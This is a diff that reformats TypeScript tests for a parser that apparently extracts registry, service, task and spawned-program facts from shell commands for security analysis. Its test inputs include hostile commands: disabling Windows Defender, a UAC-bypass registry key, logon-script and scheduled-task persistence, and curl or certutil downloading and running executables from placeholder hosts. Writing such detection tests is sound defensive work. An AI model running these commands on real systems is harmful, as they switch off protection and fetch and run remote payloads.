@@ -1,32 +1,61 @@
 import { commandFacts, programRuns } from './facts';
 
-const strip = <T extends object>(items: T[]) => items.map((item) => Object.fromEntries(Object.entries(item).filter(([key]) => !/invocation|Word$/.test(key))));
+const strip = <T extends object>(items: T[]) =>
+  items.map((item) => Object.fromEntries(Object.entries(item).filter(([key]) => !/invocation|Word$/.test(key))));
 
 describe('commandFacts: registry', () => {
   it('reads reg add through a cmd /c wrapper, with the stated and the effective type', () => {
-    const facts = commandFacts('cmd /C "reg add \\"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"');
+    const facts = commandFacts(
+      'cmd /C "reg add \\"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"',
+    );
     expect(strip(facts.registry)).toEqual([
-      { tool: 'reg', action: 'set', key: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', valueName: 'DisableAntiSpyware', data: '1', statedType: 'REG_DWORD', type: 'REG_DWORD' },
+      {
+        tool: 'reg',
+        action: 'set',
+        key: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender',
+        valueName: 'DisableAntiSpyware',
+        data: '1',
+        statedType: 'REG_DWORD',
+        type: 'REG_DWORD',
+      },
     ]);
   });
 
   it('gives reg add without /t the REG_SZ reg.exe writes, and Set-ItemProperty no type unless stated', () => {
-    expect(commandFacts('reg add HKCU\\Environment /v UserInitMprLogonScript /d 4').registry[0]).toMatchObject({ data: '4', type: 'REG_SZ' });
+    expect(commandFacts('reg add HKCU\\Environment /v UserInitMprLogonScript /d 4').registry[0]).toMatchObject({
+      data: '4',
+      type: 'REG_SZ',
+    });
     expect(commandFacts('reg add HKCU\\Environment /v x /d 4').registry[0]?.statedType).toBeUndefined();
-    const set = commandFacts('Set-ItemProperty -Path "HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend" -Name Start -Value 4').registry[0];
-    expect(set).toMatchObject({ tool: 'powershell', action: 'set', key: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend', valueName: 'Start', data: '4' });
+    const set = commandFacts('Set-ItemProperty -Path "HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend" -Name Start -Value 4')
+      .registry[0];
+    expect(set).toMatchObject({
+      tool: 'powershell',
+      action: 'set',
+      key: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend',
+      valueName: 'Start',
+      data: '4',
+    });
     expect(set?.type).toBeUndefined();
-    expect(commandFacts('New-ItemProperty -Path HKCU:\\Software\\X -Name a -Value 1 -PropertyType DWord').registry[0]).toMatchObject({ statedType: 'REG_DWORD', type: 'REG_DWORD' });
+    expect(commandFacts('New-ItemProperty -Path HKCU:\\Software\\X -Name a -Value 1 -PropertyType DWord').registry[0]).toMatchObject({
+      statedType: 'REG_DWORD',
+      type: 'REG_DWORD',
+    });
   });
 
   it('reads an unquoted key with a space up to the first switch, deletions and the default value', () => {
-    expect(commandFacts('REG ADD HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server /v fDenyTSConnections /t REG_DWORD /d 0 /f').registry[0]?.key).toBe(
-      'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server',
-    );
-    expect(strip(commandFacts('reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Windows Defender" /f').registry)).toEqual([
+    expect(
+      commandFacts('REG ADD HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server /v fDenyTSConnections /t REG_DWORD /d 0 /f')
+        .registry[0]?.key,
+    ).toBe('HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server');
+    expect(
+      strip(commandFacts('reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Windows Defender" /f').registry),
+    ).toEqual([
       { tool: 'reg', action: 'delete', key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'Windows Defender' },
     ]);
-    expect(commandFacts('reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d "cmd.exe" /f').registry[0]).toMatchObject({ valueName: '', data: 'cmd.exe' });
+    expect(
+      commandFacts('reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d "cmd.exe" /f').registry[0],
+    ).toMatchObject({ valueName: '', data: 'cmd.exe' });
   });
 
   it('states no data PowerShell computes at run time, and ignores file-system paths', () => {
@@ -37,10 +66,14 @@ describe('commandFacts: registry', () => {
 
 describe('commandFacts: services', () => {
   it('reads sc create with its options, a remote server and the service cmdlets', () => {
-    expect(strip(commandFacts('sc.exe \\\\host create evil binPath= "C:\\x\\e.exe -k" start= auto DisplayName= "Evil Svc"').services)).toEqual([
+    expect(
+      strip(commandFacts('sc.exe \\\\host create evil binPath= "C:\\x\\e.exe -k" start= auto DisplayName= "Evil Svc"').services),
+    ).toEqual([
       { manager: 'sc', action: 'create', name: 'evil', binaryPath: 'C:\\x\\e.exe -k', displayName: 'Evil Svc', startType: 'auto' },
     ]);
-    expect(strip(commandFacts('powershell -c "Stop-Service -Name \\"WinDefend\\" -Force"').services)).toEqual([{ manager: 'powershell', action: 'stop', name: 'WinDefend' }]);
+    expect(strip(commandFacts('powershell -c "Stop-Service -Name \\"WinDefend\\" -Force"').services)).toEqual([
+      { manager: 'powershell', action: 'stop', name: 'WinDefend' },
+    ]);
     expect(strip(commandFacts('New-Service -Name upd -BinaryPathName C:\\ProgramData\\u.exe -StartupType Automatic').services)).toEqual([
       { manager: 'powershell', action: 'create', name: 'upd', binaryPath: 'C:\\ProgramData\\u.exe', startType: 'Automatic' },
     ]);
@@ -48,12 +81,16 @@ describe('commandFacts: services', () => {
   });
 
   it('reads net stop, systemd units, SysV services and launchd jobs', () => {
-    expect(commandFacts('net stop "Security Center" /y').services.map((s) => [s.manager, s.action, s.name])).toEqual([['net', 'stop', 'Security Center']]);
-    expect(commandFacts('sudo systemctl enable --now kworker.service').services.map((s) => [s.manager, s.action, s.name])).toEqual([['systemd', 'enable', 'kworker.service']]);
-    expect(commandFacts('service cron stop').services.map((s) => [s.manager, s.action, s.name])).toEqual([['sysv', 'stop', 'cron']]);
-    expect(commandFacts('launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.x.plist').services.map((s) => [s.manager, s.action, s.name])).toEqual([
-      ['launchd', 'bootstrap', '~/Library/LaunchAgents/com.x.plist'],
+    expect(commandFacts('net stop "Security Center" /y').services.map((s) => [s.manager, s.action, s.name])).toEqual([
+      ['net', 'stop', 'Security Center'],
     ]);
+    expect(commandFacts('sudo systemctl enable --now kworker.service').services.map((s) => [s.manager, s.action, s.name])).toEqual([
+      ['systemd', 'enable', 'kworker.service'],
+    ]);
+    expect(commandFacts('service cron stop').services.map((s) => [s.manager, s.action, s.name])).toEqual([['sysv', 'stop', 'cron']]);
+    expect(
+      commandFacts('launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.x.plist').services.map((s) => [s.manager, s.action, s.name]),
+    ).toEqual([['launchd', 'bootstrap', '~/Library/LaunchAgents/com.x.plist']]);
   });
 
   it('names no service for a variable', () => {
@@ -63,15 +100,33 @@ describe('commandFacts: services', () => {
 
 describe('commandFacts: scheduled tasks and cron', () => {
   it('reads schtasks and the ScheduledTask cmdlets', () => {
-    expect(strip(commandFacts('schtasks /create /tn "\\Microsoft\\Up" /tr "powershell -ep bypass -f C:\\a.ps1" /sc minute /mo 5 /ru SYSTEM /f').tasks)).toEqual([
-      { manager: 'schtasks', action: 'create', name: '\\Microsoft\\Up', command: 'powershell -ep bypass -f C:\\a.ps1', schedule: 'minute /mo 5', user: 'SYSTEM' },
+    expect(
+      strip(
+        commandFacts('schtasks /create /tn "\\Microsoft\\Up" /tr "powershell -ep bypass -f C:\\a.ps1" /sc minute /mo 5 /ru SYSTEM /f')
+          .tasks,
+      ),
+    ).toEqual([
+      {
+        manager: 'schtasks',
+        action: 'create',
+        name: '\\Microsoft\\Up',
+        command: 'powershell -ep bypass -f C:\\a.ps1',
+        schedule: 'minute /mo 5',
+        user: 'SYSTEM',
+      },
     ]);
-    expect(commandFacts('schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup" /Disable').tasks[0]).toMatchObject({
+    expect(
+      commandFacts('schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup" /Disable').tasks[0],
+    ).toMatchObject({
       action: 'change',
       name: 'Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup',
     });
-    expect(strip(commandFacts('Register-ScheduledTask -TaskName "OneDrive Sync" -Action $a -Trigger $t').tasks)).toEqual([{ manager: 'powershell', action: 'create', name: 'OneDrive Sync' }]);
-    expect(commandFacts('New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -f C:\\u.ps1"').tasks[0]?.command).toBe('powershell.exe -w hidden -f C:\\u.ps1');
+    expect(strip(commandFacts('Register-ScheduledTask -TaskName "OneDrive Sync" -Action $a -Trigger $t').tasks)).toEqual([
+      { manager: 'powershell', action: 'create', name: 'OneDrive Sync' },
+    ]);
+    expect(commandFacts('New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -f C:\\u.ps1"').tasks[0]?.command).toBe(
+      'powershell.exe -w hidden -f C:\\u.ps1',
+    );
   });
 
   it('reads the cron lines a command installs', () => {
@@ -88,7 +143,9 @@ describe('commandFacts: scheduled tasks and cron', () => {
 
 describe('programRuns', () => {
   it('lists the programs that run, wrappers and built-ins removed', () => {
-    const runs = programRuns('cmd.exe /c start /b curl -o %TEMP%\\a.exe http://203.0.113.5/a.exe & %TEMP%\\a.exe & echo done', { windows: true });
+    const runs = programRuns('cmd.exe /c start /b curl -o %TEMP%\\a.exe http://203.0.113.5/a.exe & %TEMP%\\a.exe & echo done', {
+      windows: true,
+    });
     expect(runs.map((r) => [r.image, r.commandLine])).toEqual([
       ['curl.exe', 'curl -o %TEMP%\\a.exe http://203.0.113.5/a.exe'],
       ['a.exe', '%TEMP%\\a.exe'],
@@ -97,11 +154,14 @@ describe('programRuns', () => {
   });
 
   it('runs cmdlets in powershell.exe once', () => {
-    expect(programRuns('Set-MpPreference -DisableRealtimeMonitoring $true', { windows: true }).map((r) => [r.image, r.viaPowerShell])).toEqual([['powershell.exe', true]]);
-    expect(programRuns('powershell -c "Get-Process | Stop-Process; certutil -urlcache -f http://x.test/a a.exe"', { windows: true }).map((r) => r.image)).toEqual([
-      'powershell.exe',
-      'certutil.exe',
-    ]);
+    expect(
+      programRuns('Set-MpPreference -DisableRealtimeMonitoring $true', { windows: true }).map((r) => [r.image, r.viaPowerShell]),
+    ).toEqual([['powershell.exe', true]]);
+    expect(
+      programRuns('powershell -c "Get-Process | Stop-Process; certutil -urlcache -f http://x.test/a a.exe"', { windows: true }).map(
+        (r) => r.image,
+      ),
+    ).toEqual(['powershell.exe', 'certutil.exe']);
   });
 });
 
